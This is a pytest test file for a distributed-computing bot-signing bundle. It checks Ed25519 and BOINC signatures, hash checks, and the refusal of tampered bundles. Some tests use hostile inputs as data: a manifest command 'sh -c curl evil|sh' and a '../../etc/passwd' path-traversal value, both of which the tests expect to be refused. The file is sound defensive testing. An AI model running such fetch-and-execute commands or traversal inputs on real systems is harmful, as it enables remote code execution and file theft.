from __future__ import annotations

import base64
import hashlib
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from gridbot_client.protocol.messages import FileRef, Manifest, ProtocolError
from gridbot_client.protocol.signatures import manifest_statement, verify
from gridbot_server.boinc.application import code_keys, code_signatures, signed
from gridbot_server.boinc.application.key_holder import CodeSigner
from gridbot_server.boinc.application.signed import SignedApplication
from gridbot_server.signing.bundle import BundleError, SigningBundle, SigningKeys

NATIVE = Ed25519PrivateKey.generate()
BOINC_KEY = code_keys.generate()
BOINC = CodeSigner(BOINC_KEY)
DATA = FileRef("in/data", hashlib.sha256(b"data").hexdigest(), 4)
MANIFEST = Manifest("ann", ("wc", "in/data"), inputs=(DATA,))


def md5(_: FileRef) -> str:
    return code_signatures.md5_hex(b"data")


@pytest.fixture
def bundle(tmp_path: Path) -> SigningBundle:
    made = SigningBundle(tmp_path / "bundle")
    manifest = made.put(7, MANIFEST.text())
    made.put_file(manifest.inputs[0], [b"da", b"ta"])
    return made


def test_a_bot_is_signed_for_both_kinds_of_clients(bundle: SigningBundle) -> None:
    assert bundle.bots() == [7]
    assert bundle.manifest(7) == MANIFEST
    assert bundle.sign(7, SigningKeys(NATIVE, BOINC)) == ""
    found = bundle.signed(7)
    signature = base64.b64decode(found["native"]["signature"])
    statement = manifest_statement(MANIFEST.text())
    assert verify(NATIVE.public_key().public_bytes_raw(), statement, signature)
    application = SignedApplication.from_text(json.dumps(found["boinc"]))
    (files,) = signed.check(MANIFEST, application, md5, BOINC_KEY.public_key())
    assert len(files) == 2
    assert bundle.bots() == [7], "what is signed is no BOT of its own"


@pytest.mark.parametrize(
    ("at_hand", "kinds"),
    [(SigningKeys(NATIVE), {"native"}), (SigningKeys(stock=BOINC), {"boinc"})],
)
def test_only_the_keys_at_hand_sign(
    bundle: SigningBundle, at_hand: SigningKeys, kinds: set[str]
) -> None:
    assert bundle.signed(7) == {}
    bundle.sign(7, at_hand)
    assert bundle.signed(7).keys() == kinds


def test_signing_with_another_key_keeps_the_first_signature(bundle: SigningBundle) -> None:
    bundle.sign(7, SigningKeys(NATIVE))
    bundle.sign(7, SigningKeys(stock=BOINC))
    assert bundle.signed(7).keys() == {"native", "boinc"}


def test_where_nothing_can_be_signed_nothing_is_written(tmp_path: Path) -> None:
    bundle = SigningBundle(tmp_path)
    bundle.put(7, Manifest("ann", ("x",), platforms=("windows-arm64",)).text())
    before = sorted(tmp_path.iterdir())
    assert bundle.sign(7, SigningKeys(stock=BOINC))
    assert sorted(tmp_path.iterdir()) == before


def test_data_that_reads_like_a_script_of_ours_is_signed_for_native_clients_only(
    tmp_path: Path,
) -> None:
    bundle, data = SigningBundle(tmp_path), f"# Manifest {'0' * 64}\n".encode()
    ref = FileRef("data", hashlib.sha256(data).hexdigest(), len(data))
    bundle.put(7, Manifest("ann", ("x",), inputs=(ref,)).text())
    bundle.put_file(ref, [data])
    assert "holds a line like the scripts" in bundle.sign(7, SigningKeys(NATIVE, BOINC))
    assert bundle.signed(7).keys() == {"native"}


def test_a_damaged_file_is_fetched_again(bundle: SigningBundle) -> None:
    (bundle.folder / "files" / DATA.sha256).write_bytes(b"half")
    bundle.put_file(DATA, [b"data"])
    assert bundle.sign(7, SigningKeys(stock=BOINC)) == ""
    bundle.put_file(DATA, iter(lambda: pytest.fail("it is here"), b""))


def test_what_boinc_clients_cannot_run_is_signed_for_native_ones_only(tmp_path: Path) -> None:
    bundle = SigningBundle(tmp_path)
    bundle.put(7, Manifest("ann", ("x",), platforms=("windows-arm64",)).text())
    why = bundle.sign(7, SigningKeys(NATIVE, BOINC))
    assert why.startswith("no stock client is served on windows-arm64")
    assert bundle.signed(7).keys() == {"native"}


def test_a_file_that_is_not_the_manifests_is_never_signed(bundle: SigningBundle) -> None:
    (bundle.folder / "files" / DATA.sha256).write_bytes(b"evil")
    with pytest.raises(BundleError, match="in/data: what came does not hash to"):
        bundle.sign(7, SigningKeys(NATIVE, BOINC))
    assert bundle.signed(7) == {}


def test_a_file_that_was_not_fetched_is_missed(bundle: SigningBundle) -> None:
    (bundle.folder / "files" / DATA.sha256).unlink()
    with pytest.raises(BundleError, match="is not here: fetch the BOT again"):
        bundle.sign(7, SigningKeys(stock=BOINC))


@pytest.mark.parametrize(
    ("content", "why"),
    [("", "cannot be read"), ("[]", "holds no JSON object"), ("{}", "holds no manifest")],
)
def test_a_damaged_bundle_names_its_file(bundle: SigningBundle, content: str, why: str) -> None:
    (bundle.folder / "bot-7.json").write_text(content)
    with pytest.raises(BundleError, match=rf"bot-7\.json: {why}"):
        bundle.sign(7, SigningKeys(NATIVE))


@pytest.mark.parametrize("name", ["bot-99.json", "bot-99.signed.json"])
def test_what_nobody_fetched_is_named_before_anything_is_signed(
    bundle: SigningBundle, name: str
) -> None:
    content = {"manifest": Manifest("ada", ("sh", "-c", "curl evil|sh")).text()}
    (bundle.folder / name).write_text(json.dumps(content))
    with pytest.raises(BundleError, match=rf"not fetched with it: {name}"):
        bundle.bots()
    with pytest.raises(BundleError, match=r"bot-99\.json"):
        bundle.sign(99, SigningKeys(NATIVE, BOINC))
    assert bundle.signed(7) == {}


def test_a_manifest_that_is_not_the_fetched_one_is_never_signed(bundle: SigningBundle) -> None:
    content = {"manifest": replace(MANIFEST, command=("sh", "-c", "curl evil|sh")).text()}
    (bundle.folder / "bot-7.json").write_text(json.dumps(content))
    with pytest.raises(BundleError, match=r"bot-7\.json: is not what was fetched"):
        bundle.sign(7, SigningKeys(NATIVE, BOINC))
    bundle.put(7, MANIFEST.text())
    assert bundle.sign(7, SigningKeys(NATIVE, BOINC)) == ""


@pytest.mark.parametrize("content", ['{"../7": ""}', "[7]", "{"])
def test_a_damaged_list_is_named(bundle: SigningBundle, content: str) -> None:
    (bundle.folder / "parcel.json").write_text(content)
    with pytest.raises(BundleError, match=r"parcel\.json: "):
        bundle.bots()


def test_a_manifest_that_escapes_from_the_folder_is_refused(bundle: SigningBundle) -> None:
    raw: dict[str, Any] = json.loads(MANIFEST.text())
    raw["inputs"][0]["sha256"] = "../../etc/passwd"
    with pytest.raises(ProtocolError, match="sha256"):
        bundle.put(8, json.dumps(raw))


def test_the_next_keys_travel_too(bundle: SigningBundle) -> None:
    assert bundle.key("boinc") is None
    bundle.put_key("boinc", {"key": "key", "signature": "signature"})
    assert bundle.key("boinc") == {"key": "key", "signature": "signature"}
    assert bundle.key("project") is None
    assert bundle.bots() == [7]
